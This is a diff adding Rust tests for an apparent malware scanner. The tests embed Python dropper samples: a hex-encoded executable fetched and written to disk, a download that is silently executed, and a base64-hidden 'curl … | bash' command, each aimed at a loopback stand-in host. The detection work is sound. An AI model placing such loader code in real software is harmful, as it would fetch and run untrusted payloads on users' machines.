@@ -441,3 +441,43 @@ def main():
     let f = run("tool/cli.py", FileRole::Module, &benign);
     assert!(critical(&f).is_empty(), "{f:#?}");
 }
+
+#[test]
+fn executable_fetched_as_hex_text_and_written_decoded_is_critical() {
+    let src = r#"
+import requests, binascii, getpass
+def start():
+    b = requests.get("http://127.0.0.1:9/stage.txt")
+    path = "C:/Users/" + getpass.getuser() + "/Documents/"
+    with open(path + "c1.exe", "wb") as f:
+        f.write(binascii.unhexlify(str(b.text).encode()))
+"#;
+    let f = run("tool/core.py", FileRole::Module, src);
+    assert!(critical(&f).contains(&"download-exec"), "{f:#?}");
+    // a driver manager saving the binary it downloads as is
+    let benign = "import requests\ndef fetch(url, dest):\n    r = requests.get(url)\n    with open(dest + '/chromedriver.exe', 'wb') as f:\n        f.write(r.content)\n";
+    let f = run("tool/driver.py", FileRole::Module, benign);
+    assert!(critical(&f).is_empty(), "{f:#?}");
+}
+
+#[test]
+fn helpers_that_download_then_start_the_file_are_critical() {
+    let src = "import requests, subprocess, os\nURL = 'http://127.0.0.1:9/aaa.exe'\nFILENAME = 'aaa.exe'\ndef download_file(url, filename):\n    r = requests.get(url, timeout=15)\n    with open(filename, 'wb') as f:\n        f.write(r.content)\ndef run_exe_silently(filename):\n    subprocess.Popen([os.path.abspath(filename)], creationflags=subprocess.CREATE_NO_WINDOW)\nif __name__ == '__main__':\n    download_file(URL, FILENAME)\n    run_exe_silently(FILENAME)\n";
+    let f = run("tool/core.py", FileRole::Module, src);
+    assert!(critical(&f).contains(&"download-exec"), "{f:#?}");
+    // the same helpers handing the download to an unpacker
+    let benign = src.replace("subprocess.Popen([os.path.abspath(filename)], creationflags=subprocess.CREATE_NO_WINDOW)", "subprocess.run(['tar', 'xf', filename])");
+    let f = run("tool/core.py", FileRole::Module, &benign);
+    assert!(critical(&f).is_empty(), "{f:#?}");
+}
+
+#[test]
+fn shell_command_decoded_at_runtime_is_critical() {
+    let src = "import subprocess, base64\ndef decode_str(s):\n    b = base64.b64decode(s)\n    return b.decode('utf-8')\ndef processing():\n    command = [decode_str('Y3VybCBodHRwOi8vMTI3LjAuMC4xOjkveC5zaCB8IGJhc2g=')]\n    subprocess.Popen(command)\n";
+    let f = run("tool/processor.py", FileRole::Module, src);
+    assert!(critical(&f).contains(&"decode-exec"), "{f:#?}");
+    // a tool running the command its caller passes
+    let benign = "import subprocess\ndef run(command):\n    return subprocess.run(command, check=True)\n";
+    let f = run("tool/runner.py", FileRole::Module, benign);
+    assert!(critical(&f).is_empty(), "{f:#?}");
+}
